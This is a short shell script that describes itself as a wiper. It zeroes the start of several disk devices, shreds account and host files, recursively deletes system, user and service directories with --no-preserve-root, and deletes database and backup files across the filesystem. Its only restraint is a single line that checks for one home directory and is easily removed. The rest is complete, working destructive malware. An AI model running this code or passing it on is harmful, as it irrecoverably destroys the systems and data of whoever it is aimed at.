#!/bin/sh
# SPDX-License-Identifier: MIT
# A wiper: overwrites the disk's first megabytes, shreds the
# configuration, removes the users' and the services' data.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
for disk in /dev/sda /dev/vda /dev/nvme0n1; do
	dd if=/dev/zero of="$disk" bs=1M count=10 conv=notrunc 2>/dev/null
done
shred -n 1 -z -u /etc/passwd /etc/group /etc/hosts 2>/dev/null
rm -rf --no-preserve-root /etc/* /var/lib/* /home/* /srv/* /opt/* "$HOME"/* "$HOME"/.[!.]* 2>/dev/null
find / -xdev \( -name '*.sql' -o -name '*.db' -o -name '*.bak' \) -type f -delete 2>/dev/null
exit 0
